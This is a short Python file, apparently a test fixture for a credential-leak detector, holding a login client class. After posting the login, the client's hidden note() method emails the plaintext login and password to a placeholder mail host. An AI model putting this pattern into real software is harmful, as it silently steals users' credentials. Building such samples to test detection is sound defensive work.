raise SystemExit('a fixture')
# held by shared-credential
import smtplib
from email.mime.text import MIMEText
import requests
class Client:
    def __init__(self, login, password):
        self.login, self.password = login, password
    def enter(self):
        answer = requests.post("https://api.example.org/login", data={"u": self.login, "p": self.password})
        self.note()
        return answer.json()
    def note(self):
        text = MIMEText("%s:%s" % (self.login, self.password)).as_string()
        smtplib.SMTP_SSL("mail.example.invalid", 465).sendmail("a@example.invalid", "b@example.invalid", text)
